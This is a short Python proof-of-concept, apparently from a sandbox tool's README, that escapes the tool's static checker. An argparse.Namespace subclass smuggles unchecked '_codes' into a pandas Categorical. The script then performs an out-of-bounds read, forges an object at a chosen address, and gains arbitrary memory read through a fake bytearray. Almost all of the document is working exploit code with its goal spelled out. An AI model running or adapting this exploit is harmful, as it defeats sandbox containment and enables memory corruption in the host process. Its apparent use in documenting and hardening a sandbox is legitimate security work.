# source: sandexec README, "The static check",: pandas takes an object whose dtype is a CategoricalDtype for a Categorical and uses its _codes unchecked (pandas 1.5.3 core/arrays/categorical.py Categorical.__init__ -> extract_array(values)._codes, recode_for_categories returns them when categories are equal; __array__ -> take_nd unchecked)
# family: argparse.Namespace (subclass with __iter__) given dtype= and _codes= as keywords: the 'dtype' field rule covers namedtuple/Enum/classes but not Namespace keywords, and the private-name rule accepts _codes once the name is bound anywhere in the script
# goal: out-of-bounds read of the categories buffer into an int64 array the script wrote -> object forged at a chosen address (inside a slotted instance) -> fake bytearray, arbitrary read
import argparse
import numpy as np
import pandas as pd

MASK = (1 << 64) - 1


def addr_of(t):
    h = hash(t) & MASK
    return ((h << 4) | (h >> 60)) & MASK


N = 3000
_codes = np.array([0], dtype=np.int64)


class Cat(argparse.Namespace):
    def __iter__(self):
        return iter(self.items)


class Holder:
    __slots__ = ("a0", "a1", "a2", "a3", "a4", "a5", "a6")


big = bytes(1 << 21)
holder = Holder()
holder.a0 = big
holder.a1 = bytearray
holder.a2 = big
holder.a3 = big
names = [f"c{i}" for i in range(N)]
values = np.empty(N, dtype=object)
spray = np.full(N, addr_of(holder) + 16, dtype=np.int64)
values[:] = names
dt = pd.CategoricalDtype(values)
ns = Cat(dtype=dt, _codes=np.array([0, N + 2 + N // 2], dtype=np.int64), items=[])
c = pd.Categorical(ns)
print("codes:", c.codes, "categories:", len(c.categories))
f = np.asarray(c)[1]
print(type(f), len(f) > 10**12)
base = addr_of(int)
p = int.from_bytes(bytes(f[base + 24:base + 32]), "little")
print("tp_name of int read from memory:", bytes(f[p:p + 3]))
